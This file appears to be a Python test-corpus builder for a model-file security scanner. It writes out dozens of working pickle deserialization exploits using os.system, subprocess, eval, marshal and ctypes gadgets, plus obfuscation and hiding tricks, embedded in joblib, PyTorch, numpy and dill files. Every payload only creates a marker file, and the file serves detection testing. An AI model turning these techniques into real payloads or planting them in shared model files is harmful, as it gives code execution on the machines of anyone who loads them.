"""Live attacks: model files that run code when loaded by their real loader.

Every payload only creates the ``marker`` file. Pickles are written opcode by opcode where the
technique needs it, so each one is exactly the trick it is named after.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import marshal
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path

from tests.scan.corpus.model_formats import format_attacks
from tests.scan.corpus.reaching import add_reaching
from tests.scan.corpus.sample import Sample
from tests.scan.corpus.zip_parity import npy_as_torch_storage, torch_zip_variants


def _str(text: str) -> bytes:
    """A protocol 0 string operand (STRING opcode)."""
    return b"S" + repr(text).encode() + b"\n"


def _unicode(text: str) -> bytes:
    """A protocol 4 string operand (SHORT_BINUNICODE or BINUNICODE)."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + len(raw).to_bytes(4, "little") + raw


def _global(module: str, name: str) -> bytes:
    """``module.name`` pushed by STACK_GLOBAL (protocol 4)."""
    return _unicode(module) + _unicode(name) + b"\x93"


def _bytes(data: bytes) -> bytes:
    return b"B" + len(data).to_bytes(4, "little") + data


def call0(module: str, name: str, *args: str) -> bytes:
    """``module.name(*args)`` as a protocol 0 pickle: GLOBAL, MARK, strings, TUPLE, REDUCE."""
    return f"c{module}\n{name}\n(".encode() + b"".join(map(_str, args)) + b"tR."


def call4(module: str, name: str, *args: str) -> bytes:
    """The same with STACK_GLOBAL under protocol 4."""
    body = _global(module, name) + b"(" + b"".join(map(_unicode, args))
    return b"\x80\x04" + body + b"tR."


class _Reduce:
    """An object whose pickle calls ``func(*args)`` (the classic ``__reduce__`` attack)."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[object, ...]:
        return (self.func, self.args)


def build_attacks(dest: Path, marker: Path) -> list[Sample]:
    """Write every attack into ``dest``; loading any of them creates ``marker``."""
    dest.mkdir(parents=True, exist_ok=True)
    touch = f"touch {marker}"
    python = f"open({str(marker)!r}, 'w').close()"
    samples: list[Sample] = []

    def add(name: str, data: bytes, family: str, technique: str, loader: str) -> None:
        (dest / name).write_bytes(data)
        samples.append(Sample(dest / name, True, family, technique, loader))

    # -- raw pickles: gadgets ------------------------------------------------------------------
    add(
        "os_system_p0.pkl", call0("os", "system", touch), "pickle", "os.system protocol 0", "pickle"
    )
    add("posix_system.pkl", call0("posix", "system", touch), "pickle", "posix.system", "pickle")
    add("os_popen.pkl", call0("os", "popen", touch), "pickle", "os.popen", "pickle")
    spawn = b"cos\nspawnlp\n(I0\n" + b"".join(map(_str, ["touch", "touch", str(marker)])) + b"tR."
    add("os_spawnlp.pkl", spawn, "pickle", "os.spawnlp", "pickle")
    for function in ("getoutput", "getstatusoutput"):
        add(
            f"subprocess_{function}.pkl",
            call0("subprocess", function, touch),
            "pickle",
            f"subprocess.{function}",
            "pickle",
        )
    for function in ("run", "call", "check_call", "check_output", "Popen"):
        data = pickle.dumps(
            _Reduce(getattr(__import__("subprocess"), function), ["touch", str(marker)]), protocol=2
        )
        add(
            f"subprocess_{function.lower()}.pkl", data, "pickle", f"subprocess.{function}", "pickle"
        )
    add(
        "eval.pkl",
        call0("builtins", "eval", f"__import__('pathlib').Path({str(marker)!r}).touch()"),
        "pickle",
        "builtins.eval",
        "pickle",
    )
    add("exec.pkl", call4("builtins", "exec", python), "pickle", "builtins.exec", "pickle")
    add(
        "py2_builtin_eval.pkl",
        call0("__builtin__", "eval", f"__import__('os').system({touch!r})"),
        "pickle",
        "Python 2 name __builtin__.eval",
        "pickle",
    )
    add(
        "py2_commands.pkl",
        call0("commands", "getoutput", touch),
        "pickle",
        "Python 2 module commands -> subprocess",
        "pickle",
    )
    add("cprofile_run.pkl", call0("cProfile", "run", python), "pickle", "cProfile.run", "pickle")
    add("profile_run.pkl", call0("profile", "run", python), "pickle", "profile.run", "pickle")
    add(
        "timeit.pkl", call0("timeit", "timeit", python, "pass"), "pickle", "timeit.timeit", "pickle"
    )
    uuid_stdout = b"cuuid\n_get_command_stdout\n(" + _str("touch") + _str(str(marker)) + b"tR."
    add("uuid_command.pkl", uuid_stdout, "pickle", "uuid._get_command_stdout", "pickle")
    add(
        "imaplib_stream.pkl",
        call0("imaplib", "IMAP4_stream", touch),
        "pickle",
        "imaplib.IMAP4_stream",
        "pickle",
    )
    add(
        "shutil_copy.pkl",
        call0("shutil", "copyfile", __file__, str(marker)),
        "pickle",
        "shutil.copyfile",
        "pickle",
    )
    add(
        "runpy.pkl",
        call0("runpy", "run_path", str(dest / "payload.py")),
        "pickle",
        "runpy.run_path",
        "pickle",
    )
    (dest / "payload.py").write_text(python + "\n")

    # -- raw pickles: how the callable is reached ----------------------------------------------
    add("inst.pkl", b"(" + _str(touch) + b"ios\nsystem\n.", "pickle", "INST opcode", "pickle")
    add("obj.pkl", b"(cos\nsystem\n" + _str(touch) + b"o.", "pickle", "OBJ opcode", "pickle")
    memo = (
        b"\x80\x04"
        + _unicode("os")
        + b"\x94"
        + _unicode("system")
        + b"\x94"
        + b"00"
        + b"h\x00h\x01\x93"
        + _unicode(touch)
        + b"\x85R."
    )
    add("stack_global_memo.pkl", memo, "pickle", "STACK_GLOBAL operands from the memo", "pickle")
    dup = b"\x80\x04" + _global("os", "system") + b"2" + b"0" + _unicode(touch) + b"\x85R."
    add("dup.pkl", dup, "pickle", "callable duplicated with DUP", "pickle")
    computed = (
        b"\x80\x04"
        + _unicode("os")
        + _global("builtins", "str")
        + _unicode("system")
        + b"\x85R"
        + b"\x93"
        + _unicode(touch)
        + b"\x85R."
    )
    add("stack_global_computed.pkl", computed, "pickle", "STACK_GLOBAL name from a call", "pickle")
    getattr_chain = (
        b"\x80\x04"
        + _global("builtins", "getattr")
        + _global("builtins", "__import__")
        + _unicode("os")
        + b"\x85R"
        + _unicode("system")
        + b"\x86R"
        + _unicode(touch)
        + b"\x85R."
    )
    add(
        "getattr_import.pkl",
        getattr_chain,
        "pickle",
        "getattr(__import__('os'), 'system')",
        "pickle",
    )
    import_module = (
        b"\x80\x04"
        + _global("builtins", "getattr")
        + _global("importlib", "import_module")
        + _unicode("os")
        + b"\x85R"
        + _unicode("system")
        + b"\x86R"
        + _unicode(touch)
        + b"\x85R."
    )
    add("importlib.pkl", import_module, "pickle", "importlib.import_module", "pickle")
    resolve = (
        b"\x80\x04"
        + _global("pkgutil", "resolve_name")
        + _unicode("os:system")
        + b"\x85R"
        + _unicode(touch)
        + b"\x85R."
    )
    add("pkgutil_resolve.pkl", resolve, "pickle", "pkgutil.resolve_name", "pickle")
    locate = (
        b"\x80\x04"
        + _global("pydoc", "locate")
        + _unicode("os.system")
        + b"\x85R"
        + _unicode(touch)
        + b"\x85R."
    )
    add("pydoc_locate.pkl", locate, "pickle", "pydoc.locate", "pickle")
    dotted = b"\x80\x04" + _global("pathlib", "os.system") + _unicode(touch) + b"\x85R."
    add("dotted_name.pkl", dotted, "pickle", "dotted name pathlib -> os.system", "pickle")
    methodcaller = (
        b"\x80\x04"
        + _global("operator", "methodcaller")
        + _unicode("touch")
        + b"\x85R"
        + _global("pathlib", "Path")
        + _unicode(str(marker))
        + b"\x85R"
        + b"\x85R."
    )
    add("operator_methodcaller.pkl", methodcaller, "pickle", "operator.methodcaller", "pickle")
    attrgetter = (
        b"\x80\x04"
        + _global("operator", "attrgetter")
        + _unicode("system")
        + b"\x85R"
        + _global("builtins", "__import__")
        + _unicode("os")
        + b"\x85R"
        + b"\x85R"
        + _unicode(touch)
        + b"\x85R."
    )
    add("operator_attrgetter.pkl", attrgetter, "pickle", "operator.attrgetter", "pickle")
    partial = (
        b"\x80\x04"
        + _global("functools", "partial")
        + _global("os", "system")
        + _unicode(touch)
        + b"\x86R"
        + b")R."
    )
    add("functools_partial.pkl", partial, "pickle", "functools.partial then call", "pickle")
    code = marshal.dumps(compile(python, "<payload>", "exec"))
    function = (
        b"\x80\x04"
        + _global("types", "FunctionType")
        + _global("marshal", "loads")
        + _bytes(code)
        + b"\x85R"
        + b"}"
        + b"\x86R"
        + b")R."
    )
    add(
        "marshal_function.pkl", function, "pickle", "types.FunctionType from marshal code", "pickle"
    )
    ctypes_call = (
        b"\x80\x04"
        + _global("builtins", "getattr")
        + _global("ctypes", "CDLL")
        + b"N\x85R"
        + _unicode("system")
        + b"\x86R"
        + b"C"
        + bytes([len(touch)])
        + touch.encode()
        + b"\x85R."
    )
    add("ctypes_libc.pkl", ctypes_call, "pickle", "ctypes.CDLL(None).system", "pickle")

    # -- raw pickles: where in the stream ------------------------------------------------------
    evil = call0("os", "system", touch)
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        add(
            f"reduce_protocol{protocol}.pkl",
            pickle.dumps(_Reduce(os.system, touch), protocol=protocol),
            "pickle",
            f"__reduce__ in protocol {protocol}",
            "pickle",
        )
    add(
        "second_pickle.pkl",
        pickle.dumps({"weights": [1.0, 2.0]}) + evil,
        "pickle",
        "payload in the second pickle of a stream",
        "pickle-twice",
    )
    add(
        "trailing_garbage.pkl",
        evil + b"\x00\xff garbage",
        "pickle",
        "trailing bytes after the payload",
        "pickle",
    )
    add("truncated.pkl", evil[:-1], "pickle", "stream cut after REDUCE", "pickle")
    add("model.safetensors", evil, "pickle", "raw pickle named .safetensors", "pickle")
    add("config.json", evil, "pickle", "raw pickle named .json", "pickle")
    add("weights", evil, "pickle", "raw pickle without an extension", "pickle")

    # -- nested loaders ------------------------------------------------------------------------
    inner = pickle.dumps(_Reduce(os.system, touch))
    for module, name, loader in (("pickle", "loads", "pickle"), ("_pickle", "loads", "pickle")):
        nested = b"\x80\x04" + _unicode(module) + _unicode(name) + b"\x93" + _bytes(inner)
        add(f"nested_{module}.pkl", nested + b"\x85R.", "nested", f"{module}.{name}(bytes)", loader)
    as_text = inner.decode("latin-1").encode()  # protocol 2 writes bytes as latin-1 text
    codecs = (
        b"\x80\x02cpickle\nloads\nc_codecs\nencode\n"
        + b"X"
        + len(as_text).to_bytes(4, "little")
        + as_text
        + b"X\x06\x00\x00\x00latin1\x86R\x85R."
    )
    add("nested_codecs.pkl", codecs, "nested", "_codecs.encode bytes into pickle.loads", "pickle")
    for module, name, tag in (("joblib", "load", "joblib"), ("pandas", "read_pickle", "pandas")):
        wrapped = (
            b"\x80\x04"
            + _global(module, name)
            + _global("io", "BytesIO")
            + _bytes(inner)
            + b"\x85R\x85R."
        )
        add(f"nested_{tag}.pkl", wrapped, "nested", f"{module}.{name}(BytesIO(bytes))", "pickle")

    add_reaching(marker, add)
    _containers(dest, touch, add)
    format_attacks(dest, touch, add)
    return samples


def _containers(dest: Path, touch: str, add: Callable[..., None]) -> None:
    """Attacks inside the containers real loaders open."""
    import joblib
    import numpy as np
    import torch

    payload = _Reduce(os.system, touch)
    evil = pickle.dumps(payload)

    joblib.dump({"weights": np.arange(1000.0), "hook": payload}, dest / "arrays.joblib")
    add(
        "arrays.joblib",
        (dest / "arrays.joblib").read_bytes(),
        "joblib",
        "payload after numpy array blocks",
        "joblib",
    )
    for method in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
        name = f"compressed_{method}.joblib"
        joblib.dump(
            {"weights": np.arange(100.0), "hook": payload}, dest / name, compress=(method, 3)
        )
        add(name, (dest / name).read_bytes(), "joblib", f"joblib {method} compression", "joblib")
    for suffix, compress in (
        (".gz", gzip.compress),
        (".bz2", bz2.compress),
        (".xz", lzma.compress),
    ):
        add(
            f"wrapped.pkl{suffix}",
            compress(evil),
            "compressed",
            f"pickle in {suffix[1:]}",
            "pandas",
        )

    buffer = io.BytesIO()
    torch.save({"weight": torch.zeros(3), "hook": payload}, buffer)
    checkpoint = buffer.getvalue()
    add("checkpoint.pt", checkpoint, "pytorch", "PyTorch zip checkpoint", "torch")
    add("pytorch_model.bin", checkpoint, "pytorch", "PyTorch zip named .bin", "torch")
    add("lightning.ckpt", checkpoint, "pytorch", "PyTorch zip named .ckpt", "torch")
    add(
        "renamed_archive.pt",
        _rename_archive(checkpoint, "innocent"),
        "pytorch",
        "PyTorch zip with a renamed archive folder",
        "torch",
    )
    for name, data, technique in torch_zip_variants(checkpoint):
        add(name, data, "pytorch", technique, "torch")
    legacy = io.BytesIO()
    torch.save(
        {"weight": torch.zeros(3), "hook": payload}, legacy, _use_new_zipfile_serialization=False
    )
    add("legacy.pt", legacy.getvalue(), "pytorch-legacy", "PyTorch legacy format", "torch")
    storage = (
        b"\x80\x04" + _global("torch.storage", "_load_from_bytes") + _bytes(checkpoint) + b"\x85R."
    )
    add("nested_torch.pkl", storage, "nested", "torch.storage._load_from_bytes(bytes)", "pickle")

    np.save(dest / "objects.npy", np.array([payload, 1], dtype=object), allow_pickle=True)
    add(
        "objects.npy", (dest / "objects.npy").read_bytes(), "numpy", "object array in .npy", "numpy"
    )
    add(
        "storage_npy.pt",
        npy_as_torch_storage(checkpoint, (dest / "objects.npy").read_bytes()),
        "numpy",
        "object array named as a PyTorch storage",
        "numpy-npz",
    )
    np.savez(dest / "bundle.npz", weights=np.arange(3.0), a=np.array([payload], dtype=object))
    add(
        "bundle.npz",
        (dest / "bundle.npz").read_bytes(),
        "numpy",
        "object array in .npz",
        "numpy-npz",
    )

    import dill

    add(
        "dill_lambda.pkl",
        dill.dumps(_Reduce(eval(f"lambda: __import__('os').system({touch!r})"))),
        "dill",
        "dill-serialized lambda called on load",
        "dill",
    )


def _rename_archive(checkpoint: bytes, prefix: str) -> bytes:
    """The same checkpoint with every member moved to another top folder (torch accepts it)."""
    source = zipfile.ZipFile(io.BytesIO(checkpoint))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target:
        for info in source.infolist():
            renamed = prefix + "/" + info.filename.split("/", 1)[1]
            target.writestr(zipfile.ZipInfo(renamed), source.read(info.filename))
    return out.getvalue()
